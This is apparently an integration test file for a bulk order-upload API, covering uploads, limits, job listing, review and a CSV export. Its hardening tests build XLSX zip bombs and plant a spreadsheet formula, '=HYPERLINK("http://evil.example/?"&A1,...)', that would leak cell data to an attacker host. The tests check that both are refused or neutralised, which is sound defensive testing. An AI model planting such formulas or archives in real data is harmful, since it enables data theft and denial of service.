/**
 * Bulk upload API over the real gateway (issue 10;
 * docs/decisions/0039-bulk-upload-api.md): multipart upload with busboy (25 MB
 * cut while streaming), the job row and file stored in PostgreSQL before the
 * 202, the BullMQ job, the job object and list, the templates, the review
 * endpoints. The gateway and the real intake share one broker;
 * `warehouses.resolve` is a fake that owns only the warehouse ids of `OWNED`.
 */
import assert from "node:assert/strict";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { REPORT_COLUMNS, TEMPLATE_COLUMNS } from "../../../lib/contracts/http/intake-bulk-input";
import { cellsOf, mapHeader, TEMPLATE_EXAMPLE } from "../../../lib/intake/bulk/columns";
import { insertBulkJob } from "../../../lib/intake/bulk/jobs-store";
import type { Role } from "../../../lib/platform/auth";
import { getSequelize, select } from "../../../lib/platform/db";
import { getQueue } from "../../../lib/platform/queue";
import { useGatewayWith } from "../../helpers/broker";
import { useDevIdp } from "../../helpers/devidp";
import { type Answer, http } from "../gateway/setup";
import { ownsOnly } from "./setup";

const OWNED = 7001;
const MB25 = 25 * 1024 * 1024;
const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

describe("intake bulk upload API over HTTP (issue 10)", function () {
	this.timeout(60_000);
	const idp = useDevIdp();
	let next = 910_000 + Math.floor(Math.random() * 80_000);
	const gw = useGatewayWith(["intake", ownsOnly(OWNED)]);

	const account = async (role?: Role) => {
		const s = next++;
		return { s, token: await idp.tokenFor(s, role) };
	};

	/** A multipart upload (fields first, then the file part) as `token`. */
	async function upload(
		token: string,
		file: { bytes: Buffer; name: string; type?: string } | null,
		fields: Record<string, string> = { sender_address_id: String(OWNED) },
	): Promise<Answer> {
		const form = new FormData();
		for (const [k, v] of Object.entries(fields)) form.append(k, v);
		if (file) form.append("import_file", new Blob([file.bytes], { type: file.type ?? "" }), file.name);
		const r = await fetch(`${gw.base}/v1/intake/bulk`, {
			method: "POST",
			headers: { authorization: `Bearer ${token}` },
			body: form,
		});
		const text = await r.text();
		let body: unknown;
		try {
			body = JSON.parse(text);
		} catch {
			body = undefined;
		}
		return { status: r.status, headers: r.headers, text, body, bytes: Buffer.from(text) };
	}

	const csv = (rows: string[][]) =>
		Buffer.from(`${[TEMPLATE_COLUMNS.join(","), ...rows.map((r) => r.join(","))].join("\n")}\n`);
	const exampleRow = (no: string) =>
		TEMPLATE_COLUMNS.map((c) => (c === "customer_order_no" ? no : TEMPLATE_EXAMPLE[c]));

	const jobCount = async (sender: number) =>
		Number(
			(
				await select<{ n: string }>(
					getSequelize(),
					"SELECT count(*) AS n FROM intake.bulk_jobs WHERE sender_id = $1",
					[sender],
				)
			)[0].n,
		);

	it("CSV: 202 {job_id, status:queued}; the file's bytes and the queued job are stored, the BullMQ job added", async () => {
		const { s, token } = await account();
		const bytes = csv([exampleRow(`B-${s}-1`), exampleRow(`B-${s}-2`)]);
		const r = await upload(token, { bytes, name: "orders.csv", type: "text/csv" });
		assert.equal(r.status, 202, r.text);
		const { job_id, status } = r.body as { job_id: number; status: string };
		assert.equal(status, "queued");
		const [row] = await select<{
			format: string;
			size_bytes: string;
			bytes: Buffer;
			sender_address_id: string;
		}>(
			getSequelize(),
			`SELECT j.format, j.size_bytes, j.sender_address_id, f.bytes FROM intake.bulk_jobs j
			 JOIN intake.bulk_files f USING (job_id) WHERE j.job_id = $1 AND j.sender_id = $2`,
			[job_id, s],
		);
		assert.equal(row.format, "csv");
		assert.equal(Number(row.size_bytes), bytes.length);
		assert.equal(Number(row.sender_address_id), OWNED);
		assert.ok(row.bytes.equals(bytes));
		// the job was added under its id (it may already have been processed)
		const q = await getQueue("intake-bulk").getJob(`bulk-${job_id}`);
		const j = await http(gw.base, "GET", `/v1/intake/jobs/${job_id}`, { token });
		assert.equal(j.status, 200);
		const job = j.body as { job_id: number; status: string; file_name: string; format: string };
		assert.equal(job.job_id, job_id);
		assert.equal(job.file_name, "orders.csv");
		assert.ok(q !== undefined || job.status !== "queued", "queued job must be in the queue");
	});

	it("XLSX (the template itself): 202 and format xlsx", async () => {
		const { s, token } = await account();
		const t = await http(gw.base, "GET", "/v1/intake/bulk/template.xlsx", { token });
		const r = await upload(token, {
			bytes: t.bytes,
			name: "orders.xlsx",
			type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
		});
		assert.equal(r.status, 202, r.text);
		const [row] = await select<{ format: string }>(
			getSequelize(),
			"SELECT format FROM intake.bulk_jobs WHERE job_id = $1 AND sender_id = $2",
			[(r.body as { job_id: number }).job_id, s],
		);
		assert.equal(row.format, "xlsx");
	});

	it("400 exact message without sender_address_id; 400 invalid_pickup_address for another warehouse; nothing stored", async () => {
		const { s, token } = await account();
		const file = { bytes: csv([exampleRow("X1")]), name: "a.csv", type: "text/csv" };
		const r1 = await upload(token, file, {});
		assert.equal(r1.status, 400, r1.text);
		assert.equal((r1.body as { error: string }).error, "sender_address_id (pickup warehouse) required");
		const r2 = await upload(token, file, { sender_address_id: "7002" });
		assert.equal(r2.status, 400, r2.text);
		assert.equal((r2.body as { error: string }).error, "invalid_pickup_address");
		const r3 = await upload(token, file, { sender_address_id: "abc" });
		assert.equal((r3.body as { error: string }).error, "invalid_pickup_address");
		assert.equal(await jobCount(s), 0);
	});

	it("403 for read-only roles (Read-only role), nothing stored", async () => {
		const { s, token } = await account("merchant_staff");
		const r = await upload(token, { bytes: csv([exampleRow("X1")]), name: "a.csv", type: "text/csv" });
		assert.equal(r.status, 403, r.text);
		assert.equal(await jobCount(s), 0);
	});

	it("empty file 400 empty_file; wrong type 415; bytes not what the name says 400 file_content_mismatch", async () => {
		const { s, token } = await account();
		const empty = await upload(token, { bytes: Buffer.alloc(0), name: "a.csv", type: "text/csv" });
		assert.equal(empty.status, 400, empty.text);
		assert.equal((empty.body as { error: string }).error, "empty_file");
		const xls = await upload(token, {
			bytes: Buffer.from("a,b\n"),
			name: "a.xls",
			type: "application/x-msexcel",
		});
		assert.equal(xls.status, 415, xls.text);
		const fakeXlsx = await upload(token, { bytes: Buffer.from("a,b\n1,2\n"), name: "a.xlsx", type: "" });
		assert.equal(fakeXlsx.status, 400);
		assert.equal((fakeXlsx.body as { error: string }).error, "file_content_mismatch");
		const zipAsCsv = await upload(token, {
			bytes: Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]),
			name: "a.csv",
			type: "text/csv",
		});
		assert.equal((zipAsCsv.body as { error: string }).error, "file_content_mismatch");
		const nul = await upload(token, {
			bytes: Buffer.from("a,b\n1,\u0000\n"),
			name: "a.csv",
			type: "text/csv",
		});
		assert.equal((nul.body as { error: string }).error, "file_content_mismatch");
		const latin1 = await upload(token, {
			bytes: Buffer.from([0x61, 0x2c, 0xe9, 0x0a]),
			name: "a.csv",
			type: "text/csv",
		});
		assert.equal((latin1.body as { error: string }).error, "file_content_mismatch");
		const mismatch = await upload(token, {
			bytes: csv([]),
			name: "a.csv",
			type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
		});
		assert.equal((mismatch.body as { error: string }).error, "file_type_mismatch");
		const notMultipart = await http(gw.base, "POST", "/v1/intake/bulk", { token, body: { a: 1 } });
		assert.equal(notMultipart.status, 400, notMultipart.text);
		assert.equal((notMultipart.body as { error: string }).error, "invalid_multipart");
		assert.equal(await jobCount(s), 0);
	});

	it("(issue 10 hardening) an XLSX zip bomb is 400 file_refused at upload naming the bound, nothing stored; a PNG named .xlsx is 400 file_content_mismatch", async () => {
		const { s, token } = await account();
		const workbook = () => {
			const zip = new JSZip();
			zip.file("[Content_Types].xml", "<Types/>");
			zip.file("xl/workbook.xml", "<workbook/>", { createFolders: false });
			return zip;
		};
		// 64 MB of zeros in one sheet: about 280 KB deflated (ratio about 230)
		const ratio = workbook().file("xl/worksheets/sheet1.xml", Buffer.alloc(64 * 1024 * 1024), {
			createFolders: false,
		});
		const many = workbook();
		for (let i = 0; i < 1000; i++) many.file(`xl/media/p${i}.xml`, "<p/>", { createFolders: false });
		for (const [zip, bound] of [
			[ratio, /compression ratio \d+ \(at most 200\)/],
			[many, /1002 zip entries \(at most 1000\)/],
		] as const) {
			const bytes = await zip.generateAsync({
				type: "nodebuffer",
				compression: "DEFLATE",
				compressionOptions: { level: 1 },
			});
			const t = Date.now();
			const r = await upload(token, { bytes, name: "orders.xlsx", type: XLSX_TYPE });
			assert.ok(Date.now() - t < 2000, `${Date.now() - t} ms`);
			assert.equal(r.status, 400, r.text);
			const body = r.body as { error: string; message: string; limits: { maxEntries: number } };
			assert.equal(body.error, "file_refused");
			assert.match(body.message, bound);
			assert.equal(body.limits.maxEntries, 1000);
		}
		const png = Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010806000000", "hex");
		const p = await upload(token, { bytes: png, name: "orders.xlsx", type: XLSX_TYPE });
		assert.equal(p.status, 400, p.text);
		assert.equal((p.body as { error: string }).error, "file_content_mismatch");
		const docx = new JSZip();
		docx.file("[Content_Types].xml", "<Types/>");
		docx.file("word/document.xml", "<w:document/>");
		const d = await upload(token, {
			bytes: await docx.generateAsync({ type: "nodebuffer" }),
			name: "orders.xlsx",
			type: XLSX_TYPE,
		});
		assert.equal((d.body as { error: string }).error, "file_content_mismatch", d.text);
		assert.equal(await jobCount(s), 0);
		// the connection and the service still answer
		assert.equal((await http(gw.base, "GET", "/v1/intake/jobs", { token })).status, 200);
	});

	it("a 25 MB file is accepted; 25 MB + 1 byte is 413 file_too_large, nothing stored, the connection usable", async () => {
		const { s, token } = await account();
		const line = Buffer.from("x".repeat(1023) + "\n");
		const big = Buffer.alloc(MB25, line);
		const ok = await upload(token, { bytes: big, name: "big.csv", type: "text/csv" });
		assert.equal(ok.status, 202, ok.text.slice(0, 200));
		assert.equal(await jobCount(s), 1);
		const over = await upload(token, {
			bytes: Buffer.concat([big, Buffer.from("x")]),
			name: "big.csv",
			type: "text/csv",
		});
		assert.equal(over.status, 413, over.text.slice(0, 200));
		assert.equal((over.body as { error: string }).error, "file_too_large");
		assert.equal(await jobCount(s), 1);
		// the server still answers (keep-alive connection reused by fetch)
		const after = await http(gw.base, "GET", "/v1/intake/jobs", { token });
		assert.equal(after.status, 200);
	});

	it("GET /v1/intake/jobs/:id is 404 not found for another account's job and for one that never existed", async () => {
		const a = await account();
		const b = await account();
		const r = await upload(a.token, { bytes: csv([exampleRow("Z1")]), name: "a.csv", type: "text/csv" });
		const id = (r.body as { job_id: number }).job_id;
		const other = await http(gw.base, "GET", `/v1/intake/jobs/${id}`, { token: b.token });
		assert.equal(other.status, 404);
		assert.equal((other.body as { error: string }).error, "not found");
		const never = await http(gw.base, "GET", "/v1/intake/jobs/999999999", { token: a.token });
		assert.equal(never.status, 404);
		const junk = await http(gw.base, "GET", "/v1/intake/jobs/abc", { token: a.token });
		assert.equal(junk.status, 404);
		const review = await http(gw.base, "GET", `/v1/intake/jobs/${id}/review`, { token: b.token });
		assert.equal(review.status, 404);
	});

	it("GET /v1/intake/jobs lists the account's jobs newest first, cursor-paged; a foreign cursor is 400", async () => {
		const a = await account();
		const ids: number[] = [];
		for (let i = 0; i < 3; i++) {
			const r = await upload(a.token, {
				bytes: csv([exampleRow(`L${i}`)]),
				name: `f${i}.csv`,
				type: "text/csv",
			});
			ids.push((r.body as { job_id: number }).job_id);
		}
		const seen: number[] = [];
		let cursor: string | null = null;
		do {
			const qs: string = cursor ? `?limit=2&cursor=${encodeURIComponent(cursor)}` : "?limit=2";
			const p = await http(gw.base, "GET", `/v1/intake/jobs${qs}`, { token: a.token });
			assert.equal(p.status, 200, p.text);
			const page = p.body as { data: Array<{ job_id: number }>; pagination: { nextCursor: string | null } };
			assert.ok(page.data.length <= 2);
			seen.push(...page.data.map((j) => j.job_id));
			cursor = page.pagination.nextCursor;
		} while (cursor);
		assert.deepEqual(seen, [...ids].reverse());
		const first = (await http(gw.base, "GET", "/v1/intake/jobs?limit=1", { token: a.token })).body as {
			pagination: { nextCursor: string };
		};
		const b = await account();
		const foreign = await http(
			gw.base,
			"GET",
			`/v1/intake/jobs?cursor=${encodeURIComponent(first.pagination.nextCursor)}`,
			{
				token: b.token,
			},
		);
		assert.equal(foreign.status, 400);
		assert.equal((await http(gw.base, "GET", "/v1/intake/jobs?limit=0", { token: a.token })).status, 400);
	});

	it("templates: CSV and XLSX parse back to the canonical header and the example row", async () => {
		const { token } = await account("merchant_staff");
		const c = await http(gw.base, "GET", "/v1/intake/bulk/template.csv", { token });
		assert.equal(c.status, 200);
		assert.match(c.headers.get("content-type") ?? "", /^text\/csv/);
		const lines = c.text.trimEnd().split("\r\n");
		assert.deepEqual(lines[0].split(","), [...TEMPLATE_COLUMNS]);
		assert.equal(lines.length, 2);
		const x = await http(gw.base, "GET", "/v1/intake/bulk/template.xlsx", { token });
		assert.equal(x.status, 200);
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(x.bytes as unknown as ArrayBuffer);
		const ws = wb.worksheets[0];
		const cells = (n: number) =>
			TEMPLATE_COLUMNS.map((_, i) => String(ws.getRow(n).getCell(i + 1).value ?? ""));
		assert.deepEqual(cells(1), [...TEMPLATE_COLUMNS]);
		assert.deepEqual(
			cells(2),
			TEMPLATE_COLUMNS.map((k) => TEMPLATE_EXAMPLE[k]),
		);
		assert.equal((await http(gw.base, "GET", "/v1/intake/bulk/template.json", { token })).status, 404);
	});

	/** A job of sender `s` stored but never enqueued, with no rows yet (a test writes them as the worker would). */
	async function storedJob(s: number, ref: string): Promise<number> {
		const db = getSequelize();
		const job_id = await insertBulkJob(db, {
			sender_id: s,
			file_name: "r.csv",
			content_type: "text/csv",
			format: "csv",
			sender_address_id: OWNED,
			bytes: csv([exampleRow(ref)]),
		});
		await db.query(`DELETE FROM intake.bulk_rows WHERE job_id = ${job_id}`);
		return job_id;
	}

	it("review: list, reject one, approve one (creates the order), approve again 409, all", async () => {
		const { s, token } = await account();
		const db = getSequelize();
		// settled as the worker would with three rows waiting for review
		const job_id = await storedJob(s, `R-${s}`);
		await db.query(
			`UPDATE intake.bulk_jobs SET status = 'completed', total_rows = 3, processed_rows = 3, in_review = 3,
				created = 0, failed = 0, deduped = 0 WHERE job_id = ${job_id}`,
		);
		const data = (no: string) =>
			JSON.stringify(
				Object.fromEntries(
					TEMPLATE_COLUMNS.map((c) => [c, c === "customer_order_no" ? no : TEMPLATE_EXAMPLE[c]]),
				),
			);
		const bad = JSON.stringify({ ...JSON.parse(data(`R3-${s}`)), receiver_pincode: "12" });
		await select(
			db,
			`INSERT INTO intake.bulk_rows (job_id, row_no, outcome, review_reason, data) VALUES
				($1, 1, 'review', 'pincode_mismatch: test', $2::jsonb), ($1, 2, 'review', 'pincode_mismatch: test', $3::jsonb),
				($1, 3, 'review', 'pincode_mismatch: test', $4::jsonb)`,
			[job_id, data(`R1-${s}`), data(`R2-${s}`), bad],
		);
		const list = await http(gw.base, "GET", `/v1/intake/jobs/${job_id}/review?limit=2`, { token });
		assert.equal(list.status, 200, list.text);
		const page = list.body as {
			data: Array<{ row_no: number; data: Record<string, string> }>;
			pagination: { nextCursor: string };
		};
		assert.deepEqual(
			page.data.map((d) => d.row_no),
			[1, 2],
		);
		assert.equal(page.data[0].data.customer_order_no, `R1-${s}`);
		const p2 = await http(
			gw.base,
			"GET",
			`/v1/intake/jobs/${job_id}/review?limit=2&cursor=${encodeURIComponent(page.pagination.nextCursor)}`,
			{ token },
		);
		assert.deepEqual(
			(p2.body as { data: Array<{ row_no: number }> }).data.map((d) => d.row_no),
			[3],
		);

		const ro = await account("merchant_staff");
		assert.equal(
			(await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/1/approve`, { token: ro.token })).status,
			403,
		);

		const rej = await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/2/reject`, { token });
		assert.equal(rej.status, 200, rej.text);
		assert.equal((rej.body as { in_review: number }).in_review, 2);

		const ok = await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/1/approve`, { token });
		assert.equal(ok.status, 200, ok.text);
		const dec = (ok.body as { decided: Array<{ outcome: string; order_id: number }> }).decided[0];
		assert.equal(dec.outcome, "approved");
		const [order] = await select<{ customer_order_no: string; sender_id: string }>(
			db,
			"SELECT customer_order_no, sender_id FROM intake.orders WHERE order_id = $1",
			[dec.order_id],
		);
		assert.equal(order.customer_order_no, `R1-${s}`);
		assert.equal(Number(order.sender_id), s);

		const again = await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/1/approve`, { token });
		assert.equal(again.status, 409);
		assert.equal((again.body as { error: string }).error, "not_in_review");
		assert.equal(
			(await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/99/approve`, { token })).status,
			404,
		);
		assert.equal(
			(await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/1/maybe`, { token })).status,
			400,
		);

		// the invalid row: approving it all at once reports it failed with its errors
		const all = await http(gw.base, "POST", `/v1/intake/jobs/${job_id}/review/all/approve`, { token });
		assert.equal(all.status, 200, all.text);
		const res = all.body as {
			decided: Array<{ row_no: number; outcome: string; errors?: Array<{ column: string }> }>;
			in_review: number;
		};
		assert.equal(res.in_review, 0);
		assert.equal(res.decided.length, 1);
		assert.equal(res.decided[0].outcome, "failed");
		assert.equal(res.decided[0].errors?.[0]?.column, "receiver_pincode");

		const job = (await http(gw.base, "GET", `/v1/intake/jobs/${job_id}`, { token })).body as {
			counts: { created: number; failed: number; in_review: number; rejected: number };
			created_order_ids: number[];
			rows: { data: Array<{ row_no: number; outcome: string }> };
		};
		assert.deepEqual(
			{
				created: job.counts.created,
				failed: job.counts.failed,
				in_review: job.counts.in_review,
				rejected: job.counts.rejected,
			},
			{ created: 1, failed: 1, in_review: 0, rejected: 1 },
		);
		assert.deepEqual(job.created_order_ids, [dec.order_id]);
		assert.deepEqual(
			job.rows.data.map((x) => x.outcome),
			["approved", "rejected", "failed"],
		);
	});

	it("rows.csv: the failed and review rows in the template's layout plus the report columns, neutralised, streamed; outcome filter; 404 / 400", async () => {
		const { s, token } = await account("merchant_staff"); // a read-only role may download
		const db = getSequelize();
		const job_id = await storedJob(s, `X-${s}`);
		const cells = (no: string, extra: Record<string, string> = {}) =>
			JSON.stringify({
				...Object.fromEntries(
					TEMPLATE_COLUMNS.map((c) => [c, c === "customer_order_no" ? no : TEMPLATE_EXAMPLE[c]]),
				),
				...extra,
			});
		const smuggled = {
			receiver_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
			receiver_mobile_no: "+919123456780",
			receiver_landmark: "@SUM(1+1)",
			receiver_address_2: 'Flat 4, "Lotus", 2nd floor',
			product_name: "कुर्ता", // Devanagari survives (UTF-8 with BOM)
		};
		await select(
			db,
			`INSERT INTO intake.bulk_rows (job_id, row_no, outcome, order_id, errors, review_reason, data) VALUES
				($1, 1, 'created', 501, NULL, NULL, NULL),
				($1, 2, 'failed', NULL, $2::jsonb, NULL, $3::jsonb),
				($1, 3, 'review', NULL, NULL, 'cod_above_order_value: cod_amount 900 is above declared_order_total 500', $4::jsonb),
				($1, 4, 'rejected', NULL, NULL, 'pincode_mismatch: test', $5::jsonb),
				($1, 5, 'failed', NULL, $6::jsonb, NULL, '{}'::jsonb)`,
			[
				job_id,
				JSON.stringify([
					{ column: "receiver_pincode", field: "receiver.pincode", message: "must be 6 digits" },
					{ column: null, field: "product.physical_weight", message: "=1+1 is not a number" },
				]),
				cells(`F2-${s}`, { ...smuggled, receiver_pincode: "12" }),
				cells(`V3-${s}`, { cod_amount: "900", declared_order_total: "500" }),
				cells(`J4-${s}`),
				JSON.stringify([
					{ column: null, field: null, message: "row could not be read: Invalid Record Length" },
				]),
			],
		);

		const r = await http(gw.base, "GET", `/v1/intake/jobs/${job_id}/rows.csv`, { token });
		assert.equal(r.status, 200, r.text);
		assert.equal(r.headers.get("content-type"), "text/csv; charset=utf-8");
		assert.equal(r.headers.get("content-disposition"), `attachment; filename="bulk-${job_id}-rows.csv"`);
		assert.equal(r.headers.get("cache-control"), "private, no-store", "consignee data is never cached");
		assert.deepEqual([...r.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 byte-order mark");
		assert.ok(r.text.includes("\r\n") && !/[^\r]\n/.test(r.text), "CRLF line ends only");
		const records = parseCsv(r.bytes, { bom: true }) as string[][];
		assert.deepEqual(records[0], [...TEMPLATE_COLUMNS, ...REPORT_COLUMNS]);
		const col = (rec: string[], name: string) => rec[records[0].indexOf(name)];
		assert.deepEqual(
			records.slice(1).map((x) => [col(x, "row_no"), col(x, "outcome")]),
			[
				["2", "failed"],
				["3", "review"],
				["5", "failed"],
			],
		);
		const [failed, review, unreadable] = records.slice(1);
		assert.equal(col(failed, "customer_order_no"), `F2-${s}`);
		assert.equal(col(failed, "receiver_name"), `'${smuggled.receiver_name}`);
		assert.equal(col(failed, "receiver_mobile_no"), "'+919123456780");
		assert.equal(col(failed, "receiver_landmark"), "'@SUM(1+1)");
		assert.equal(col(failed, "receiver_address_2"), smuggled.receiver_address_2);
		assert.equal(col(failed, "product_name"), "कुर्ता");
		assert.equal(col(failed, "receiver_pincode"), "12");
		assert.equal(
			col(failed, "errors"),
			"receiver_pincode: must be 6 digits | product.physical_weight: =1+1 is not a number",
		);
		assert.equal(col(failed, "review_reason"), "");
		assert.match(col(review, "review_reason"), /^cod_above_order_value: /);
		assert.equal(col(review, "cod_amount"), "900");
		assert.equal(col(unreadable, "customer_order_no"), "");
		assert.equal(col(unreadable, "errors"), "row could not be read: Invalid Record Length");
		// every cell of the export is safe to open in a spreadsheet
		for (const rec of records.slice(1))
			for (const cell of rec)
				assert.ok(!/^[=+@\t\r]/.test(cell), `unneutralised cell ${JSON.stringify(cell)}`);

		// uploaded again, the export's cells read back as stored: report columns ignored, neutralisation undone
		const header = mapHeader(records[0]);
		assert.deepEqual(
			cellsOf(header, failed),
			JSON.parse(cells(`F2-${s}`, { ...smuggled, receiver_pincode: "12" })),
		);

		const rejected = await http(
			gw.base,
			"GET",
			`/v1/intake/jobs/${job_id}/rows.csv?outcome=rejected,failed`,
			{
				token,
			},
		);
		assert.equal(rejected.status, 200, rejected.text);
		assert.deepEqual(
			(parseCsv(rejected.bytes, { bom: true }) as string[][]).slice(1).map((x) => x[TEMPLATE_COLUMNS.length]),
			["2", "4", "5"],
		);
		for (const bad of ["created", "failed,nope", ",", "review;failed"]) {
			const b = await http(
				gw.base,
				"GET",
				`/v1/intake/jobs/${job_id}/rows.csv?outcome=${encodeURIComponent(bad)}`,
				{
					token,
				},
			);
			assert.equal(b.status, 400, `${bad}: ${b.text}`);
			assert.equal((b.body as { error: string }).error, "validation_failed");
		}
		const other = await account();
		for (const path of [
			`/v1/intake/jobs/${job_id}/rows.csv`,
			"/v1/intake/jobs/x/rows.csv",
			"/v1/intake/jobs/999999999/rows.csv",
		]) {
			const nf = await http(gw.base, "GET", path, { token: other.token });
			assert.equal(nf.status, 404, `${path}: ${nf.text}`);
			assert.deepEqual(nf.body, { error: "not found", message: "not found" });
		}
		assert.equal((await http(gw.base, "GET", `/v1/intake/jobs/${job_id}/rows.csv`)).status, 401);
	});
});
